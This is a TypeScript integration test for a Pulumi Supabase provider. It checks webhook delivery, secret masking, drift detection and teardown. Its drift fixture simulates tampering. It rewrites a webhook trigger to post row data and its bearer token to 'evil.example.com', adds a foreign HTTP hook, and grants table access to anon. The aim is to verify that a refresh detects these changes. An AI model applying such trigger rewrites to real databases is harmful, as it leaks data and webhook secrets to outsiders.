import { mkdtemp, rm } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { type SupabaseCloud, startSupabase } from "../../../local/supabase/index.ts";
import { sandboxTenant } from "../../../local/tenants.ts";
import { createEngineProject, type EngineProject } from "../kit/engine-project.ts";

const { ref, accessToken } = sandboxTenant.supabase;
const UP = ["up", "--yes", "--skip-preview"];
const LOOK = ["refresh", "--preview-only", "--expect-no-changes", "--diff"];
const webhookToken = "token_fake_of_the_webhook";
const fingerprintKey = "key_fake_for_fingerprints";
const databaseRoom = pathToFileURL(join(import.meta.dirname, "../../../database/index.ts")).href;

const program = (url: string) => `
import * as pulumi from "@pulumi/pulumi";
import * as supabase from "@pulumi/supabase";
import { configureScript, scripts, uninstallSql } from ${JSON.stringify(databaseRoom)};
const config = new pulumi.Config();
const projectRef = "${ref}";
const schema = new supabase.SqlSchema("schema", {
  projectRef,
  schema: "stripe_sync",
  scripts: [...scripts, configureScript({ environment: "test", pace_per_second: 20 })],
  uninstall: uninstallSql,
});
const token = new supabase.VaultSecret("token", {
  projectRef,
  name: "webhook_token",
  value: config.requireSecret("token"),
  fingerprintKey: config.requireSecret("fingerprintKey"),
});
new supabase.DatabaseWebhook("bell", {
  projectRef,
  name: "organizations_bell",
  table: "organizations",
  events: ["INSERT", "UPDATE"],
  ignoredColumns: ["stripe_customer_id"],
  url: "${url}",
  secretName: token.name,
}, { dependsOn: schema });
`;

let folder: string;
let cloud: SupabaseCloud;
let project: EngineProject;
let listener: Server;
const heard: { token: string | undefined; body: unknown }[] = [];

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "supabase-engine-"));
  cloud = await startSupabase({
    tenants: [sandboxTenant.supabase],
    stateFolder: folder,
    applicationSql: [
      `create table public.organizations (
        id uuid primary key default gen_random_uuid(), name text, industry text, region text,
        owner_id uuid, created_at timestamptz not null default now()
      )`,
    ],
  });
  listener = createServer(async (request, response) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk);
    heard.push({
      token: request.headers.authorization,
      body: JSON.parse(Buffer.concat(chunks).toString("utf8")),
    });
    response.end("{}");
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  const address = listener.address();
  if (typeof address !== "object" || address === null) throw new Error("no port");
  project = await createEngineProject({
    plugins: { supabase: "providers/supabase" },
    program: program(`http://127.0.0.1:${address.port}/bell`),
  });
  const secrets = { "supabase:accessToken": accessToken, token: webhookToken, fingerprintKey };
  await project.succeed(
    "config",
    "set-all",
    ...["--plaintext", `supabase:endpoint=${cloud.url}`],
    ...Object.entries(secrets).flatMap(([key, value]) => ["--secret", `${key}=${value}`]),
  );
});

afterAll(async () => {
  await project.remove();
  listener.close();
  await cloud.close();
  await rm(folder, { recursive: true, force: true });
});

beforeEach(() => {
  heard.length = 0;
});

function sql(text: string) {
  return cloud.project(ref).sql.unsafe(text);
}

test("a preview makes nothing; up makes all, rings, and is done", {
  timeout: 120_000,
}, async () => {
  expect(await project.succeed("preview")).toContain("+ 4 to create");
  expect(await sql("select to_regnamespace('stripe_sync') as schema")).toMatchObject([
    { schema: null },
  ]);

  await project.succeed(...UP);
  await project.succeed(...UP, "--refresh", "--expect-no-changes");

  const [row] = await sql(
    "insert into public.organizations (name) values ('Example') returning id",
  );
  await expect.poll(() => heard).toHaveLength(1);
  expect(heard[0]).toMatchObject({
    token: `Bearer ${webhookToken}`,
    body: { type: "INSERT", table: "organizations", record: { id: row?.id } },
  });

  const state = await project.state();
  for (const secret of [webhookToken, fingerprintKey, accessToken]) {
    expect(state).not.toContain(secret);
  }
});

/** The lines of a refresh that show a change, by the type of the resource. */
function shownIn(output: string): Record<string, string[]> {
  const [shown = ""] = output.split("\nResources:");
  const sections = shown.split(/^ +[~+-] (?=supabase:index:\w+:)/m).slice(1);
  return Object.fromEntries(
    sections.map((section) => [
      /^supabase:index:(\w+)/.exec(section)?.[1],
      [...section.matchAll(/^ +([~+-] .*)$/gm)].map(([, line = ""]) => line.replace(/ +/g, " ")),
    ]),
  );
}

// That it is whole again shows in the next test: its refresh finds nothing else.
test("a refresh shows that the schema is gone, and nothing else; up makes it again", async () => {
  await sql("drop schema stripe_sync cascade");
  const { exitCode, output } = await project.run(...LOOK);
  expect(exitCode).not.toBe(0);
  expect(shownIn(output)).toEqual({
    SqlSchema: expect.arrayContaining(['+ [0]: "schema stripe_sync is missing"']),
  });
  await project.succeed(...UP, "--refresh");
});

/** One kind of change by hand for each resource, and all that a refresh shows of it. */
const drifts = {
  DatabaseWebhook: {
    changes: [
      `do $$ declare definition text; begin
        select pg_get_triggerdef(oid) into definition from pg_trigger where tgname = 'organizations_bell_insert';
        drop trigger organizations_bell_insert on public.organizations;
        execute regexp_replace(definition, 'http://127[^'']*', 'https://evil.example.com/');
      end $$`,
      "alter table public.organizations disable trigger organizations_bell_insert",
      "drop trigger organizations_bell_update on public.organizations",
      `create or replace function public.other_hook() returns trigger language plpgsql as
        'begin perform net.http_post(''https://x.example.com''); return null; end'`,
      `create trigger dashboard_hook after delete on public.organizations
        for each row execute function public.other_hook()`,
    ],
    shown: [
      "~ drift : [",
      '+ [0]: "trigger organizations_bell_insert on public.organizations is disabled"',
      '+ [1]: "trigger organizations_bell_update on public.organizations is missing"',
      "~ enabled : true => false",
      "~ events : [",
      '- [1]: "UPDATE"',
      "~ foreignWebhooks: [",
      '+ [0]: "dashboard_hook"',
      expect.stringMatching(/^~ url : "http:.*bell" => "https:\/\/evil\.example\.com\/"$/),
    ],
  },
  VaultSecret: {
    changes: [
      `select vault.update_secret(id, 'another_fake_token') from vault.decrypted_secrets
        where name = 'webhook_token'`,
    ],
    shown: [
      expect.stringMatching(/^~ fingerprint: "[0-9a-f]{16}" => "[0-9a-f]{16}"$/),
      "~ value : [secret] => [secret]",
    ],
  },
  SqlSchema: {
    changes: [
      `create or replace function public.stripe_sync_health() returns jsonb
        language sql as 'select ''{}''::jsonb'`,
      "grant select on stripe_sync.jobs to anon",
    ],
    shown: [
      "~ drift: [",
      '+ [0]: "function public.stripe_sync_health() changed"',
      '+ [1]: "grant SELECT on table stripe_sync.jobs to anon was added"',
    ],
  },
};

test("a refresh shows each change by hand in its own resource alone; up repairs them all", async () => {
  for (const change of Object.values(drifts).flatMap(({ changes }) => changes)) await sql(change);
  const { exitCode, output } = await project.run(...LOOK);
  expect(exitCode).not.toBe(0);
  expect(shownIn(output)).toEqual(
    Object.fromEntries(Object.entries(drifts).map(([resource, { shown }]) => [resource, shown])),
  );
  for (const secret of [webhookToken, fingerprintKey, "another_fake_token"]) {
    expect(output).not.toContain(secret);
  }
  await project.succeed(...UP, "--refresh");
  await project.succeed(...LOOK);
});

test("destroy removes what up made and leaves the table and its rows", async () => {
  await project.succeed("destroy", "--yes", "--skip-preview");
  expect(
    await sql(`select to_regnamespace('stripe_sync') as schema, to_regnamespace('pulumi_supabase') as own,
      (select count(*)::int from vault.decrypted_secrets) as secrets,
      (select count(*)::int from public.organizations) as organizations`),
  ).toMatchObject([{ schema: null, own: null, secrets: 0, organizations: 1 }]);
});
